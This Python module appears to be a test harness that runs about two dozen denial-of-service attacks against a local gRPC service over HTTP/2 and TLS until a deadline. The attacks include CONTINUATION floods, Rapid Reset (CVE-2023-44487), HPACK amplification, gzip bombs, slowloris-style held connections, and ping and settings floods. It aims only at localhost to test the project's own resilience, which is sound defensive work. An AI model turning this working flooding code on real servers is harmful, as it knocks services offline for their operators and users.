"""Attacks on a port with HTTP/2 (RFC 9113): raw bytes of callers who have no token, for as long as a deadline says."""

import contextlib
import gzip
import socket
import ssl
import struct
import time
from collections import deque
from collections.abc import Callable, Mapping
from functools import cache

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
FRAME_BYTES = 16 * 1024
CHECK_PATH = b"/robosc_api.v1.SynthesisService/Check"
MODEL = "robot lamp {\n}\n"

ATTACKER = "127.0.0.2"
"""Address from which attacks come: another host, and so another caller, than that of the client."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header field that enters no table, without Huffman codes; at most 126 bytes of each."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path: bytes = CHECK_PATH, more: Mapping[bytes, bytes] | None = None) -> bytes:
    """The header block of a call of gRPC, with more metadata."""
    fields = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"localhost"}
    fields |= {b"te": b"trailers", b"content-type": b"application/grpc"}
    return b"".join(literal(name, value) for name, value in (fields | dict(more or {})).items())


class Deadline:
    """Time until which an attack lasts."""

    def __init__(self, seconds: float) -> None:
        self._end_s = time.monotonic() + seconds

    def __bool__(self) -> bool:
        return time.monotonic() < self._end_s


def connected(port: int, *, is_greeting: bool = True) -> socket.socket:
    """A connection to the server on this machine, with the beginning of HTTP/2."""
    line = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(ATTACKER, 0))
    if is_greeting:
        line.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return line


def flooded(
    port: int, deadline: Deadline, first: bytes, chunk: bytes, connections: int = 1, *, is_greeting: bool = True
) -> None:
    """Send chunks on some connections for as long as the other end takes them, and connect again when it does not."""
    lines: list[socket.socket | None] = [None] * connections
    while deadline:
        for number, line in enumerate(lines):
            try:
                if line is None:
                    line = lines[number] = connected(port, is_greeting=is_greeting)
                    line.sendall(first)
                    line.setblocking(False)  # named by the library
                with contextlib.suppress(BlockingIOError):
                    # Answers are dropped, so that the other end never waits for this one.
                    if not line.recv(2**20):
                        raise ConnectionResetError
                if connections == 1:
                    line.settimeout(0.5)
                    with contextlib.suppress(TimeoutError):
                        line.sendall(chunk)
                    line.setblocking(False)
                else:
                    line.send(chunk)
            except BlockingIOError:
                continue
            except OSError:
                if line is not None:
                    line.close()
                lines[number] = None
                time.sleep(0.001)
                if not deadline:
                    return


def continuation_fields(port: int, deadline: Deadline) -> None:
    """One header block of small fields that does not end."""
    fields = b"".join(literal(b"x-%06d" % number, b"v" * 60) for number in range(200))
    flooded(port, deadline, frame(HEADERS, 0, 1, call_headers()), frame(CONTINUATION, 0, 1, fields[:FRAME_BYTES]) * 8)


def continuation_text(port: int, deadline: Deadline) -> None:
    """One header block with a single text of 2 GB."""
    length = b"\x7f" + bytes([0x80, 0xFF, 0xFF, 0xFF, 0x07])
    begin = frame(HEADERS, 0, 1, call_headers() + b"\x00" + bytes([1]) + b"x" + length)
    flooded(port, deadline, begin, frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES) * 8)


def continuation_many(port: int, deadline: Deadline) -> None:
    """The same on 200 connections."""
    length = b"\x7f" + bytes([0x80, 0xFF, 0xFF, 0xFF, 0x07])
    begin = frame(HEADERS, 0, 1, call_headers() + b"\x00" + bytes([1]) + b"x" + length)
    flooded(port, deadline, begin, frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES) * 8, connections=200)


def continuation_empty(port: int, deadline: Deadline) -> None:
    """A header block of frames without content."""
    flooded(port, deadline, frame(HEADERS, 0, 1, call_headers()), frame(CONTINUATION, 0, 1) * 4096)


def flooded_with_calls(
    port: int,
    deadline: Deadline,
    call: Callable[[int], bytes],
    *,
    at_once: int = 100,
    is_read: bool = True,
) -> None:
    """Make calls on four connections without waiting for answers, and connect again when one is closed.

    Args:
        port: Port of the server.
        deadline: End of the attack.
        call: Function that returns the frames of a call from the number of its stream.
        at_once: Number of calls that are sent in one piece.
        is_read: False to leave the answers where they are.
    """
    while deadline:
        lines = []
        try:
            for _ in range(4):
                lines.append(connected(port))
                lines[-1].settimeout(0.5)
            stream = 1
            while deadline and stream < 2**30:
                some = b"".join(map(call, range(stream, stream + 2 * at_once, 2)))
                for line in lines:
                    line.sendall(some)
                    with contextlib.suppress(BlockingIOError):
                        if is_read and not line.recv(2**20, socket.MSG_DONTWAIT):
                            raise ConnectionResetError
                stream += 2 * at_once
        except OSError:
            time.sleep(0.001)
        finally:
            for line in lines:
                line.close()


def rapid_reset(port: int, deadline: Deadline) -> None:
    """Calls that are begun and reset at once, on four connections (CVE-2023-44487)."""
    headers, reset = call_headers(), struct.pack(">I", 8)
    flooded_with_calls(
        port,
        deadline,
        lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, reset),
    )


def reset_messages(port: int, deadline: Deadline) -> None:
    """Calls that are reset in the middle of their request."""
    headers, reset = call_headers(), struct.pack(">I", 8)
    part = b"\0" + struct.pack(">I", 100_000) + bytes(500)
    flooded_with_calls(
        port,
        deadline,
        lambda stream: (
            frame(HEADERS, END_HEADERS, stream, headers)
            + frame(DATA, 0, stream, part)
            + frame(RST_STREAM, 0, stream, reset)
        ),
    )


def header_references(port: int, deadline: Deadline) -> None:
    """Header blocks of 16,000 bytes, each of which refers to a field of 3.9 kB in the table of the connection."""
    length = b"\x7f" + bytes([0x80 | (3773 & 0x7F), 3773 >> 7])
    first = call_headers() + b"\x40" + bytes([1]) + b"x" + length + b"v" * 3900
    others = call_headers() + b"\xbe" * 16_000
    flooded_with_calls(
        port,
        deadline,
        lambda stream: frame(HEADERS, END_HEADERS, stream, first if stream == 1 else others),
        at_once=10,
    )


def unknown_methods(port: int, deadline: Deadline) -> None:
    """Calls of methods that are not there."""
    flooded_with_calls(
        port,
        deadline,
        lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers(b"/any/%09d" % stream)),
    )


def wrong_deadlines(port: int, deadline: Deadline) -> None:
    """Calls with deadlines that have passed, are too far away, or are none."""
    texts = (b"0n", b"1n", b"99999999H", b"999999999999S", b"-1S", b"abc", b"")

    def call(stream: int) -> bytes:
        headers = call_headers() + literal(b"grpc-timeout", texts[stream // 2 % len(texts)])
        return frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bytes(5))

    flooded_with_calls(port, deadline, call)


def many_messages(port: int, deadline: Deadline) -> None:
    """Calls that send three thousand requests where one is expected."""
    headers = call_headers()
    flooded_with_calls(
        port,
        deadline,
        lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bytes(5) * 3000),
        at_once=10,
    )


def unread_pings(port: int, deadline: Deadline) -> None:
    """Pings whose answers are not read, on four connections."""
    flooded_with_calls(port, deadline, lambda stream: frame(PING, 0, 0, b"12345678"), at_once=1000, is_read=False)


def unread_answers(port: int, deadline: Deadline) -> None:
    """Calls of ListTargets whose answers are not read, on four connections."""
    headers = call_headers(b"/robosc_api.v1.SynthesisService/ListTargets")
    flooded_with_calls(
        port,
        deadline,
        lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bytes(5)),
        is_read=False,
    )


def compressed(port: int, deadline: Deadline) -> None:
    """Calls whose request of 0.6 kB is 0.5 MB when it is unpacked, on four connections."""
    from robosc_api.v1 import synthesis_pb2

    file = synthesis_pb2.SourceFile(name="a.rscd", text="// " + "v" * 500_000 + "\n" + MODEL)
    packed = gzip.compress(synthesis_pb2.FormatRequest(file=file).SerializeToString())
    headers = call_headers(b"/robosc_api.v1.SynthesisService/Format", {b"grpc-encoding": b"gzip"})
    message = b"\1" + struct.pack(">I", len(packed)) + packed
    flooded_with_calls(
        port,
        deadline,
        lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, message),
        at_once=10,
    )


def slow_readers(port: int, deadline: Deadline) -> None:
    """Calls whose answers of 0.5 MB are read at 20 kB a second, 90 on each of ten connections."""
    from robosc_api.v1 import synthesis_pb2

    file = synthesis_pb2.SourceFile(name="a.rscd", text=many_states(9))
    request = synthesis_pb2.ExploreRequest(bundle=synthesis_pb2.Bundle(main=file)).SerializeToString()
    headers = call_headers(b"/robosc_api.v1.SynthesisService/Explore")
    message = b"\0" + struct.pack(">I", len(request)) + request
    # The windows of HTTP/2 are as large as can be: whatever holds the answers, it is the server or Envoy.
    wide = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))
    wide += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 2**16))
    lines: list[socket.socket] = []
    while deadline:
        with contextlib.suppress(OSError):
            if len(lines) < 10:
                lines.append(connected(port))
                lines[-1].sendall(
                    wide
                    + b"".join(
                        frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, message)
                        for stream in range(1, 181, 2)
                    )
                )
        for line in lines:
            with contextlib.suppress(OSError):
                line.recv(1000, socket.MSG_DONTWAIT)
        time.sleep(0.05)


def many_states(components: int) -> str:
    """A robot with twice as many states for each further component."""
    component = """component c{0} {{
        outgoing message m{0} with identifier: "/m{0}", type: boolean
        behaviour {{
            initial marked state a {{ on response from m{0} goto b }}
            marked state b {{ on response from m{0} goto a }}
        }}
    }}
    """
    return "robot lamp {\n" + "".join(map(component.format, range(components))) + "}\n"


def many_fields(port: int, deadline: Deadline) -> None:
    """Calls with 150 fields of metadata."""
    headers = call_headers(more={b"x-%03d" % number: b"v" for number in range(150)})
    flooded_with_calls(
        port,
        deadline,
        lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bytes(5)),
    )


def tls_endless(port: int, deadline: Deadline) -> None:
    """Hellos of TLS of 16 MB, on 200 connections."""
    record = struct.pack(">BHH", 22, 0x0301, FRAME_BYTES)
    first = record + b"\x01\xff\xff\xff" + bytes(FRAME_BYTES - 4)
    flooded(port, deadline, first, record + bytes(FRAME_BYTES), connections=200, is_greeting=False)


def tls_slow(port: int, deadline: Deadline) -> None:
    """1,300 connections that send a byte of a hello of TLS now and then."""
    _held(port, deadline, 1300, hello())


def tls_hellos(port: int, deadline: Deadline) -> None:
    """Hellos of TLS on new connections whose answers are not read, as fast as this machine makes them."""
    lines: deque[socket.socket] = deque()
    while deadline:
        with contextlib.suppress(OSError):
            lines.append(connected(port, is_greeting=False))
            lines[-1].sendall(hello())
        if len(lines) > 200:
            lines.popleft().close()


@cache
def hello() -> bytes:
    """The first message of a client of TLS that speaks HTTP/2."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost").do_handshake()
    return sent.read()


def half_closed(port: int, deadline: Deadline) -> None:
    """Connections that begin twenty calls and close their own half."""
    calls = b"".join(frame(HEADERS, END_HEADERS, stream, call_headers()) for stream in range(1, 41, 2))
    lines: deque[socket.socket] = deque()
    while deadline:
        with contextlib.suppress(OSError):
            lines.append(connected(port))
            lines[-1].sendall(calls)
            lines[-1].shutdown(socket.SHUT_WR)
        if len(lines) > 2000:
            lines.popleft().close()


def idle(port: int, deadline: Deadline) -> None:
    """1,300 connections without a call, each made again when it is closed."""
    _held(port, deadline, 1300)


def slow(port: int, deadline: Deadline) -> None:
    """1,300 connections that send a byte of the beginning now and then."""
    _held(port, deadline, 1300, PREFACE)


def _held(port: int, deadline: Deadline, count: int, dripped: bytes = b"") -> None:
    """Hold connections that send a byte of a text now and then; without one, they begin HTTP/2 and are silent."""
    lines: list[socket.socket | None] = [None] * count
    sent = 0
    while deadline:
        for number, line in enumerate(lines):
            if not deadline:
                return
            try:
                if line is None:
                    lines[number] = line = connected(port, is_greeting=not dripped)
                    line.setblocking(False)
                elif sent < len(dripped):
                    line.send(dripped[sent : sent + 1])
                with contextlib.suppress(BlockingIOError):
                    if not line.recv(65536):
                        raise ConnectionResetError
            except OSError:
                if line is not None:
                    line.close()
                lines[number] = None
        sent += 1
        time.sleep(0.2)


def silent_calls(port: int, deadline: Deadline) -> None:
    """Calls whose request never comes: 90 on each of 20 connections."""
    headers = call_headers()
    _waiting(port, deadline, lambda stream: frame(HEADERS, END_HEADERS, stream, headers))


def half_sent(port: int, deadline: Deadline) -> None:
    """Calls that announce a request of 4 MB and send 500 bytes of it: 90 on each of 20 connections."""
    headers, part = call_headers(), b"\0" + struct.pack(">I", 4 * 2**20) + bytes(500)
    _waiting(port, deadline, lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, part))


def _waiting(port: int, deadline: Deadline, call: Callable[[int], bytes]) -> None:
    """Begin 90 calls on each of 20 connections, and hold them."""
    lines: list[socket.socket] = []
    while deadline:
        with contextlib.suppress(OSError):
            if len(lines) < 20:
                lines.append(connected(port))
                lines[-1].sendall(b"".join(map(call, range(1, 181, 2))))
        time.sleep(0.05)


def pings(port: int, deadline: Deadline) -> None:
    """Pings without end."""
    flooded(port, deadline, b"", frame(PING, 0, 0, b"12345678") * 2048)


def settings(port: int, deadline: Deadline) -> None:
    """Changes of settings without end."""
    flooded(port, deadline, b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 2048)


def reconnecting(port: int, deadline: Deadline) -> None:
    """Connections that are made and dropped, as fast as this machine makes them."""
    while deadline:
        with contextlib.suppress(OSError):
            connected(port).close()


def nothing(port: int, deadline: Deadline) -> None:
    """No attack at all."""
    while deadline:
        time.sleep(0.1)


ATTACKS: dict[str, Callable[[int, Deadline], None]] = {
    "none": nothing,
    "continuation-fields": continuation_fields,
    "continuation-text": continuation_text,
    "continuation-many": continuation_many,
    "continuation-empty": continuation_empty,
    "rapid-reset": rapid_reset,
    "idle": idle,
    "slow": slow,
    "silent-calls": silent_calls,
    "pings": pings,
    "settings": settings,
    "reconnecting": reconnecting,
    "reset-messages": reset_messages,
    "header-references": header_references,
    "unknown-methods": unknown_methods,
    "wrong-deadlines": wrong_deadlines,
    "many-messages": many_messages,
    "unread-pings": unread_pings,
    "half-closed": half_closed,
    "half-sent": half_sent,
    "unread-answers": unread_answers,
    "slow-readers": slow_readers,
    "compressed": compressed,
    "many-fields": many_fields,
    "tls-endless": tls_endless,
    "tls-slow": tls_slow,
    "tls-hellos": tls_hellos,
}

OVER_TLS = ("tls-endless", "tls-slow", "tls-hellos")
"""Attacks on a port with TLS."""
